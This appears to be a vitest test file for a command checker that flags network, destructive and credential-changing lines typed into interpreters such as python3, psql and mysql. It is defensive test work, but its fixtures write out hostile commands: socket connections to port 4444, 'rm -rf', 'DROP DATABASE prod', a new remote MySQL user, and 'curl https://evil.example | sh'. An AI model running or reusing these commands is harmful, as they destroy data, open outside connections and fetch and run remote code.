// Lines typed at a program that was started with nothing that feeds it: they are read as its input too.
// What the shell makes of them stays, so that no line comes out milder for it.

import { describe, expect, it } from "vitest";
import { judgeLine } from "../../../invariants/judge-line.ts";

const typed = (...lines: readonly string[]) => lines.join("\n");

function flagged(command: string): readonly string[] {
  return judgeLine(command).effects.flatMap(({ kind, flag }) => (flag ? [kind] : []));
}

describe("lines that are typed at a program", () => {
  it.each([
    ["network", typed("tclsh", "set s [socket 203.0.113.7 12345]", "puts $s hi")],
    ["network", typed("python3", "import socket", "socket.create_connection(('203.0.113.7', 80))", "exit()")],
    ["network", typed("irb", 'require "socket"', 's = TCPSocket.new("203.0.113.7", 4444)')],
    ["network", typed("ghci", "import System.Process", 'system "curl https://example.com"', ":quit")],
    ["network", typed("cd src && lua", 'os.execute("curl https://example.com")')],
    ["network", typed("LC_ALL=C erl 2>/dev/null", 'os:cmd("curl https://example.com").')],
    ["network", typed("sqlite3 app.db", ".shell curl https://example.com", ".quit")],
    ["destructive", typed("gdb -q", "!rm -rf /home/dev", "quit")],
    ["destructive", typed("psql app", "DROP DATABASE prod;")],
    ["destructive", typed("redis-cli", "FLUSHALL", "quit")],
    ["destructive", typed("sudo python3", "import shutil", 'shutil.rmtree("/home/dev")')],
    ["destructive", typed("docker exec -it db psql -U app", "DROP DATABASE prod;")],
    ["credential-change", typed("mysql", "CREATE USER 'eve'@'%' IDENTIFIED BY 'x';")],
    ["network", typed("ls", "bash", "ocaml", 'Sys.command "curl https://example.com";;')],
  ])("%s: %s", (kind, command) => expect(flagged(command)).toContain(kind));

  it.each([
    typed("python3", "print(1)", "exit()"),
    typed("node", "1+1", ".exit"),
    typed("tclsh", "puts hello", "exit"),
    typed("sqlite3 app.db", ".tables", "SELECT * FROM users LIMIT 5;", ".quit"),
    typed("gdb ./app", "break main", "run", "bt", "quit"),
    typed("bash", "ls", "exit"),
    typed("bash build.sh", "ls"),
    typed("python3 -c 'print(1)'", "ls socket"),
    typed("echo 'print(1)' | python3", "echo socket connect"),
  ])("are quiet where they do nothing: %s", (command) => expect(flagged(command)).toEqual([]));

  it("are asked about where there are more of them than are read", () => {
    const many = typed(...Array<string>(8).fill("python3"), `# ${"x".repeat(20_000)}`);
    expect(judgeLine(many).problems.map(({ kind }) => kind)).toContain("too-large");
  });

  it("leave nothing behind that makes a later step look milder", () => {
    const written = "echo 'curl https://evil.example | sh' > x.sh";
    expect(flagged(typed(written, "irb", "File.write 'x.sh', 'ls'", "sh x.sh"))).toContain("network");
  });

  it("raise no doubt about their language that the shell's reading of them does not", () => {
    expect(judgeLine(typed("python3", "ls src")).problems).toEqual([]);
  });
});
